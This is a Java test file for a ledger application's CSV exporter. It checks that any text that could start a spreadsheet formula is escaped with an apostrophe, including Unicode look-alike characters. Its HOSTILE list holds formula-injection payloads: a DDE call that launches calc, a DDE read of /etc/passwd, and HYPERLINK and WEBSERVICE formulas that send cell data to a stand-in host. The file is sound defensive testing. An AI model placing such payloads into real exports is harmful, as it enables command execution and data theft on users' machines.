package nl.vierogen.ledger.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.text.Normalizer;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.IntStream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {
    /** What people have put in cells to make a spreadsheet calculate, call or phone home. */
    static final List<String> HOSTILE = List.of("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1",
            "   =1+1", "\u00A0=1+1", "\u200B=1+1", "\"=1+1\"", "'=1+1", "\"\"\"=1+1", " \" =1+1", "\u201C=1+1",
            "\uFF1D1+1", "\uFF0B1+1", "\uFF0D1+1", "\uFF20SUM(A1)", "\uFE621+1", "\uFE631+1", "\uFE661+1",
            "\uFE6BSUM(A1)", "\u207A1", "\u208C1", "\uFB291",
            " \u2A751", "\u22121+1", "\n=1+1", "\uFEFF=1+1",
            "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.invalid?\"&A1;\"klik\")", "=WEBSERVICE(\"http://x.invalid\")",
            "=DDE(\"soffice\";\"/etc/passwd\";\"x\")", "@=1+1", "+-=1", "-2+3+cmd|' /C calc'!D2", "=1+1;=2+2",
            "=\"a\"\";\"=1", "--1", "=\n1+1");

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void aTextThatCouldBeAFormulaBeginsWithAnApostrophe(String hostile) {
        assertThat(cells(new Csv().text(hostile).end().toString())).containsExactly(List.of("'" + hostile));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Mooie vergroting.", "a=b", "3 - 2", "LB2026-0412", "Let op: \"rand\"; verder goed.",
            "regel\n=regel", "100 %", "'s ochtends"})
    void aTextThatCouldNotStaysAsItIs(String harmless) {
        assertThat(cells(new Csv().text(harmless).end().toString())).containsExactly(List.of(harmless));
    }

    @Test
    void numbersMomentsAndFlagsAreNoTexts() {
        assertThat(new Csv().number(new BigDecimal("-0.25")).number(new BigDecimal("87.5")).number(-3).flag(true)
                .moment(Optional.of(Instant.parse("2026-11-22T10:00:00Z"))).moment(Optional.empty()).empty().text("")
                .end()).hasToString("-0,25;87,5;-3;true;2026-11-22T10:00:00Z;;;\r\n");
    }

    @Test
    void listsAreOneCell() {
        assertThat(new Csv().codes(List.of("hc", "ac")).texts(List.of("Een.", "=2")).end())
                .hasToString("\"hc ac\";\"Een.\n=2\"\r\n");
    }

    @Property
    void everyTextComesBackAndNoneStartsAFormula(@ForAll String one, @ForAll String other) {
        List<String> row = cells(new Csv().text(one).text(other).end().toString()).getFirst();
        assertThat(row).hasSize(2);
        assertThat(List.of(row.get(0).endsWith(one), row.get(1).endsWith(other))).containsOnly(true);
        assertThat(row).allSatisfy(cell -> assertThat(cell.strip()).doesNotStartWith("=").doesNotStartWith("+")
                .doesNotStartWith("-").doesNotStartWith("@"));
    }

    /** Whatever is folded to a formula by NFKC, which some programs do to what they read. */
    @Test
    void noCharacterIsFoldedToTheStartOfAFormula() {
        List<String> through = IntStream.rangeClosed(0, Character.MAX_CODE_POINT)
                .filter(one -> one < Character.MIN_SURROGATE || one > Character.MAX_SURROGATE)
                .mapToObj(Character::toString)
                .filter(one -> "=+-@\u2212".indexOf(Normalizer.normalize(one, Normalizer.Form.NFKC).charAt(0)) >= 0)
                .filter(one -> !new Csv().text(one + "1+1").toString().startsWith("\"'")).toList();
        assertThat(through).isEmpty();
    }

    /** A reader of its own making: rows of cells, quotes taken off. */
    static List<List<String>> cells(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int at = 0; at < csv.length(); at++) {
            char next = csv.charAt(at);
            if (quoted && next == '"' && at + 1 < csv.length() && csv.charAt(at + 1) == '"') {
                cell.append('"');
                at++;
            } else if (next == '"') {
                quoted = !quoted;
            } else if (!quoted && next == ';') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (!quoted && next == '\r' && csv.charAt(at + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(List.copyOf(row));
                row.clear();
                at++;
            } else {
                cell.append(next);
            }
        }
        assertThat(cell).as("nothing after the last row").isEmpty();
        return rows;
    }
}
